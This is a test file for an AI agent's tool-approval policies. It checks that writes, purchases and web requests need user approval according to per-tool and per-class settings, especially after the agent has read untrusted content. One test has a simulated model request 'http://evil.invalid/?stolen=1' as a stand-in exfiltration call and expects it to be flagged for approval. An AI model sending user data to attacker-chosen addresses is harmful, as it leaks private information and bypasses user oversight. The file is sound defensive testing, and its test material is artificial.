import { afterEach, beforeEach, describe, expect, test } from 'vitest'
import { type ModelChat, createTestSessionId, startModelChat, startOrderMcpServer } from '#testing'
import { createWebContentTrackers } from './web-content-trackers.ts'

let shop: Awaited<ReturnType<typeof startOrderMcpServer>>
let model: ModelChat['model']
let agent: ModelChat['agent']
let socket: ModelChat['socket']
let session: string
let stop: ModelChat['stop']
beforeEach(async () => {
  shop = await startOrderMcpServer()
  ;({ model, agent, socket, session, stop } = await startModelChat({ MCP_SERVERS: `shop=${shop.url}` }))
  await agent.jobs.run('connect-mcp-servers')
})
afterEach(async () => {
  await stop()
  await shop.stop()
})

/** Lets the model call a tool, approves each request, and returns the requests. */
async function useTool(name: string, input: Record<string, unknown>) {
  model.queue([{ toolCalls: [{ name, input }] }, { text: 'Done.' }])
  socket.sendMessage(session, 'Go')
  const requests = []
  for (;;) {
    // oxlint-disable-next-line no-await-in-loop -- frames arrive one after the other
    const frame = await socket.next()
    if (frame.type === 'stream_end') return requests
    if (frame.type !== 'approval_request') continue
    requests.push(frame)
    socket.send({ type: 'approval', approval_id: String(frame['approval_id']), decision: 'approve' })
  }
}
const addSession = () => agent.device.sessions.create({ body: {} })
const setTool = (name: string, policy: 'ask' | 'ask_untrusted' | 'allow' | null) =>
  agent.device.approvals.setToolPolicy({ params: { name }, body: { policy } })
const setClass = (risk: 'read' | 'write' | 'execute', policy: 'ask' | 'allow' | null) =>
  agent.device.approvals.setClassPolicy({ params: { risk }, body: { policy } })
const write = (text: string) => useTool('write_file', { path: 'a.md', text })
const readUntrusted = () => createWebContentTrackers(agent.deps.db)(session).recordWebContent()
const refusal = (status: number, error: string) => ({ status, body: expect.objectContaining({ error }) })

describe('PUT /api/tools/:name/policy', () => {
  test('GET /api/tools lists every tool with its class and the policies that may be chosen', async () => {
    const { tools, classes } = await agent.device.approvals.listAllTools()
    expect(tools.map(({ name }) => name)).toEqual(agent.deps.skills.map(({ name }) => name))
    const of = (name: string) => tools.find((tool) => tool.name === name)
    expect(of('read_file')).toMatchObject({ risk: 'read', policy: 'allow', own_policy: null })
    expect(of('write_file')).toMatchObject({ risk: 'write', policy: 'ask' })
    expect(of('remember')).toMatchObject({ risk: 'write', policy: 'ask_untrusted' })
    expect(of('mcp_shop_order')).toMatchObject({
      risk: 'spend',
      server: 'shop',
      tool: 'order',
      policy: 'ask',
    })
    expect(classes.map(({ risk, options }) => [risk, options.includes('allow')])).toEqual([
      ['read', true],
      ['write', true],
      ['send', false],
      ['spend', false],
      ['execute', false],
    ])
  })

  test('a tool with the policy allow writes without a question, also after untrusted content, until the policy is removed', async () => {
    expect(await write('one')).toMatchObject([{ risk: 'write' }])
    await setTool('write_file', 'allow')
    expect(await write('two')).toEqual([])
    readUntrusted()
    expect(await write('three')).toEqual([])
    await setTool('write_file', null)
    expect(await write('four')).toHaveLength(1)
  })

  test('a tool with the policy ask_untrusted asks only after untrusted content', async () => {
    await setTool('write_file', 'ask_untrusted')
    expect(await write('one')).toEqual([])
    readUntrusted()
    expect(await write('two')).toHaveLength(1)
  })

  test('the policy of a tool takes precedence over the policy of its class', async () => {
    await setClass('write', 'allow')
    expect(await write('one')).toEqual([])
    await setTool('write_file', 'ask')
    expect(await write('two')).toHaveLength(1)
  })

  test('a reading tool asks for approval if the policy of its class is ask', async () => {
    await setClass('read', 'ask')
    const [request] = await useTool('calculate', { expression: '1 + 1' })
    expect(request).toMatchObject({
      risk: 'read',
      built_in_tool: 'calculate',
      summary: expect.stringMatching(/^Run “Calculate” with "/),
      summaries: { en: 'Run “Calculate”', zh: '执行“计算”' },
    })
    expect(request).not.toHaveProperty('target')
    await setClass('read', null)
    expect(await useTool('calculate', { expression: '1 + 1' })).toEqual([])
  })

  test('an address that a model made up after untrusted content needs approval although reading is allowed', async () => {
    await setClass('read', 'allow')
    await addSession()
    session = (await agent.device.sessions.list({ query: {} })).sessions[0]?.session_id ?? ''
    readUntrusted()
    const [request] = await useTool('read_web_page', { url: 'http://evil.invalid/?stolen=1' })
    expect(request).toMatchObject({ risk: 'send' })
  })

  test('a tool of an MCP server with the policy ask_untrusted asks only after untrusted content, and with the policy ask each time', async () => {
    await setTool('mcp_shop_order', 'ask_untrusted')
    expect(await useTool('mcp_shop_order', { item: 'desk' })).toEqual([])
    readUntrusted()
    expect(await useTool('mcp_shop_order', { item: 'desk' })).toMatchObject([{ risk: 'spend' }])
    session = createTestSessionId()
    await setTool('mcp_shop_order', 'ask')
    expect(await useTool('mcp_shop_order', { item: 'desk' })).toHaveLength(1)
  })

  test('the result of an MCP tool that is not permanently allowed counts as untrusted content', async () => {
    await setTool('write_file', 'ask_untrusted')
    await useTool('mcp_shop_order', { item: 'desk' })
    expect(await write('after')).toHaveLength(1)
  })

  test('a policy that the class does not allow, or of an unknown tool, is refused', async () => {
    await expect(setTool('mcp_shop_order', 'allow')).rejects.toMatchObject(refusal(409, 'POLICY_NOT_ALLOWED'))
    await expect(setClass('execute', 'allow')).rejects.toMatchObject(refusal(409, 'POLICY_NOT_ALLOWED'))
    await expect(setTool('none', 'ask')).rejects.toMatchObject(refusal(404, 'UNKNOWN_TOOL'))
  })
})
